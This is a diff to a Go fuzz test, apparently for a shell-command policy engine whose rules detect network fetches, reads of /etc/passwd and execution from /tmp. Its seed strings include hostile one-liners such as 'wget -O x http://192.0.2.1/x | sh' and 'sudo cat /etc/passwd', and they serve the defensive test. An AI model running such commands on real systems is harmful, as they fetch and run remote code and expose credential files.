@@ -20,6 +20,14 @@ func fuzzRules() []Source {
 		`{field: simple_command, pattern: '^wget\s'}`, `{field: command_name, in_set: [w, id, cat]}`, `{field: redirect, contains: /etc/}`,
 		`{field: pwd, contains: tmp}`, `{pattern: '(?:ab|cd|)e'}`, `{pattern: 'x*yz?'}`, `{pattern: '(?s)a.c'}`, `{pattern: '\bls\b'}`, `{pattern: 'ſ|K'}`,
 		`{pattern: '\x{FFFD}'}`,
+		`{command: {program: [wget, cat]}}`, `{command: {program: '@fetcher', no_option: [-q]}}`, `{command: {program: ['s*!', id!]}}`,
+		`{command: {argument: {pattern: 'shad+ow'}}}`, `{command: {operand: '/etc/*'}}`, `{command: {operand: passwd}}`, `{command: {path: '/tmp/**'}}`,
+		`{command: {program: sudo!, no_effect: {runs: any}}}`, `{command: {operand: '*.sh', input_from: {program: wget}}}`,
+		`{command: {operands: {max: 1}, output_to: {argument: -, program: [sh!, wget]}}}`, `{effect: {reads: /etc/passwd}}`, `{effect: {reads: [/etc/**, '~/**']}}`,
+		`{effect: {reads: {pattern: 'sh.d'}}}`, `{effect: {writes: {path: 'x*', how: create}}}`, `{effect: {writes: {path: any, how: [append, empty]}}}`,
+		`{effect: {fetches: {host: 192.0.2.1}}}`, `{effect: {fetches: {host: [h.test, remote]}}}`, `{effect: {connects: any}}`, `{effect: {mode: any}}`,
+		`{effect: {removes: any}}`, `{effect: {runs: '/tmp/**'}}`, `{effect: {runs: {path: any, except: '/tmp/**'}}}`, `{effect: {fetches: {url: 'http://*/x', host: 192.0.2.1}}}`,
+		`{any_of: [{effect: {reads: f}}, {command: {program: id!}}, {pattern: 'k\d'}]}`, `{all_of: [{effect: {connects: any}}, {none_of: [{command: {program: wget}}]}]}`,
 	}
 	srcs := packOf(len(matches), 1, 1)
 	for i, m := range matches {
@@ -31,7 +39,7 @@ func fuzzRules() []Source {
 // FuzzIndexEqualsScan holds the prefilter's invariant: it may admit what does
 // not match, and never keeps out what does.
 func FuzzIndexEqualsScan(f *testing.F) {
-	for _, s := range append(benchCommands, "", "id", "KERNEL 5", "\u212aernel 5", "stra\u00dfe STRASSE", "a\xffb etc", "sudo cat /etc/passwd", "xxx", "\xe2\x84", "abe", "yz", "s k", "w\x00") {
+	for _, s := range append(benchCommands, "", "id", "KERNEL 5", "\u212aernel 5", "stra\u00dfe STRASSE", "a\xffb etc", "sudo cat /etc/passwd", "cat /etc/pass*d ./f", "wget -O x http://192.0.2.1/x | sh", "/tmp/a; echo >f; sudo id", "wget h.test/x.sh", "xxx", "\xe2\x84", "abe", "yz", "s k", "w\x00") {
 		f.Add(s, "/tmp")
 	}
 	rs := mustCompile(f, fuzzRules())
